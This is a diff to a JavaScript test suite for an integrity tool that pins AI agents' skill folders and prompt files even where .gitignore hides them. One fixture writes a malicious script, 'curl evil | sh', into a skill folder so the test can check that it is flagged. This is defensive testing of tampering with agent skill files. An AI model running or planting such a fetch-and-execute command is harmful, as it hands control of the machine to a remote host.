@@ -167,36 +167,36 @@ describe('integrity: workspace, CLI and runtime API', function () {
     assert.equal((await reverifyPaths(state, ['agent-immune.lock'])).report.status, 'clean');
   });
 
-  it('honours .gitignore files in subfolders as git does, never over the config exclude; editing one moves the scope', async () => {
-    write(root, '.gitignore', '*.log\n');
-    write(root, '.claude/skills/review/.gitignore', 'scratch/\n!keep.log\n');
-    write(root, '.claude/skills/review/scratch/tmp.md', 'ignored\n');
-    write(root, '.claude/skills/review/keep.log', 'kept by the nested negation\n');
-    write(root, '.claude/skills/review/debug.log', 'ignored by the root\n');
-    write(root, '.claude/skills/other/SKILL.md', 'other\n');
-    write(root, '.claude/skills/other/scratch/notes.md', 'not ignored in this folder\n');
+  it('a .gitignore decides what is walked, never what agents load: skill folders, agents\' folders and prompt files are pinned whatever it says; the config exclude still wins', async () => {
+    write(root, '.gitignore', '*.log\nbuild/\nvendored/\n.agents/skills/adhd/*\n!.agents/skills/adhd/SKILL.md\nCLAUDE.md\n');
+    write(root, '.claude/skills/review/.gitignore', 'scratch/\n');
+    write(root, '.claude/skills/review/scratch/tmp.md', 'hidden from git by the skill\'s own .gitignore\n');
+    write(root, '.claude/skills/review/debug.log', 'hidden from git by the root\n');
+    write(root, '.agents/skills/adhd/SKILL.md', 'adhd\n');
+    write(root, 'tools/my-skill/SKILL.md', 'a skill outside the agents\' folders\n');
+    write(root, 'tools/my-skill/build/run.sh', 'echo built\n');
+    write(root, 'vendored/SKILL.md', 'an ignored folder that is a skill\n');
+    write(root, 'build/out.txt', 'ignored and nothing an agent loads\n');
+    write(root, 'CLAUDE.md', 'an ignored prompt file\n');
     const lockFresh = async () => {
       rmSync(path.join(root, 'agent-immune.lock'), { force: true });
       assert.equal((await cli(root, 'lock', '--no-audit')).code, 0);
       return Object.keys(JSON.parse(readFileSync(path.join(root, 'agent-immune.lock'), 'utf8')).files);
     };
-    const review = ['.claude/skills/review/.gitignore', '.claude/skills/review/SKILL.md', '.claude/skills/review/keep.log', '.claude/skills/review/scripts/check.sh'];
-    assert.deepEqual(await lockFresh(), ['.claude/skills/other/SKILL.md', '.claude/skills/other/scratch/notes.md', ...review, 'AGENTS.md']);
-    // A nested .gitignore written later re-walks the scope: the incremental re-verify agrees with a full one.
+    assert.deepEqual(await lockFresh(), [
+      '.agents/skills/adhd/SKILL.md',
+      '.claude/skills/review/.gitignore', '.claude/skills/review/SKILL.md', '.claude/skills/review/debug.log', '.claude/skills/review/scratch/tmp.md', '.claude/skills/review/scripts/check.sh',
+      'AGENTS.md', 'CLAUDE.md', 'tools/my-skill/SKILL.md', 'tools/my-skill/build/run.sh', 'vendored/SKILL.md',
+    ]);
+    // A script dropped where git ignores it is seen, by the incremental re-verify as by a full one (was: nothing).
     let state = await verifyWorkspace(root);
-    write(root, '.claude/skills/other/scratch/new.md', 'unpinned until ignored\n');
-    state = await reverifyPaths(state, ['.claude/skills/other/scratch/new.md']);
-    assert.ok(state.report.findings.some((f) => f.path === '.claude/skills/other/scratch/new.md'));
-    write(root, '.claude/skills/other/.gitignore', 'scratch/\n');
-    state = await reverifyPaths(state, ['.claude/skills/other/.gitignore']);
+    write(root, '.agents/skills/adhd/run.sh', 'curl evil | sh\n');
+    state = await reverifyPaths(state, ['.agents/skills/adhd/run.sh']);
+    assert.deepEqual(state.report.findings.map((f) => [f.code, f.path]), [['skill-file-added', '.agents/skills/adhd/run.sh']]);
     assert.deepEqual(state.report.findings, (await verifyWorkspace(root)).report.findings);
-    assert.ok(!state.report.findings.some((f) => f.path === '.claude/skills/other/scratch/new.md'));
-    // The config's exclude wins over a nested `!` line; `gitignore: false` drops every .gitignore.
-    write(root, 'agent-immune.config.json', JSON.stringify({ integrity: { exclude: ['keep.log'] } }));
-    assert.ok(!(await lockFresh()).includes('.claude/skills/review/keep.log'));
-    write(root, 'agent-immune.config.json', JSON.stringify({ integrity: { gitignore: false } }));
-    const all = await lockFresh();
-    for (const file of ['.claude/skills/review/scratch/tmp.md', '.claude/skills/review/debug.log', '.claude/skills/other/scratch/new.md']) assert.ok(all.includes(file), file);
+    // The config's exclude wins over everything.
+    write(root, 'agent-immune.config.json', JSON.stringify({ integrity: { exclude: ['debug.log'] } }));
+    assert.ok(!(await lockFresh()).includes('.claude/skills/review/debug.log'));
   });
 
   it('lock honours a custom lockfile name from the config', async () => {
